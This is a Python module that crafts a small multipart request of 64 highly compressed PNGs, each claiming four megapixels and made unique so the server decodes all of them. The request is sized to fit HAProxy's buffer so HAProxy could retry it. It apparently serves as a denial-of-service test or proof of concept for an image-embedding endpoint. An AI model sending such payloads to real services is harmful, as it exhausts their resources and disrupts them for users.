"""A request that is small to send and slow to process."""

import asyncio
import struct
import zlib

BOUNDARY = "between-the-images"
# server.max_images. Each image has 4 megapixels in 700 bytes, and the server decodes all of them.
IMAGES = 64
SIDE = 2048
# In seconds; longer than HAProxy's `timeout server`.
RESPONSE_TIMEOUT = 30.0


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def image(number: int) -> bytes:
    """Makes a black PNG with one bit per pixel. Its comment makes it unique, because the server decodes equal images once."""
    header = struct.pack(">IIBBBBB", SIDE, SIDE, 1, 0, 0, 0, 0)
    pixels = zlib.compress(bytes((1 + SIDE // 8) * SIDE), 9)
    text = b"Comment\0%d" % number
    parts = [(b"IHDR", header), (b"tEXt", text), (b"IDAT", pixels), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(kind, content) for kind, content in parts)


def stalling_request(host: str) -> bytes:
    """Makes a request to /embed that fits into HAProxy's buffer, so HAProxy could retry it."""
    disposition = 'content-disposition: form-data; name="image"'
    parts = [f"--{BOUNDARY}\r\n{disposition}\r\n\r\n".encode() + image(number) + b"\r\n" for number in range(IMAGES)]
    body = b"".join(parts) + f"--{BOUNDARY}--\r\n".encode()
    head = (
        f"POST /embed HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\ncontent-length: {len(body)}\r\n"
        f"content-type: multipart/form-data; boundary={BOUNDARY}\r\n\r\n"
    )
    request = head.encode() + body
    assert len(request) < 65536 - 1024, "the request does not fit HAProxy's buffer"
    return request


async def status_of(host: str, port: int, request: bytes) -> int:
    """Sends a request over a new connection and returns the status of the response."""
    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(request)
        head = await asyncio.wait_for(reader.readuntil(b"\r\n"), RESPONSE_TIMEOUT)
    finally:
        writer.close()
    return int(head[9:12])
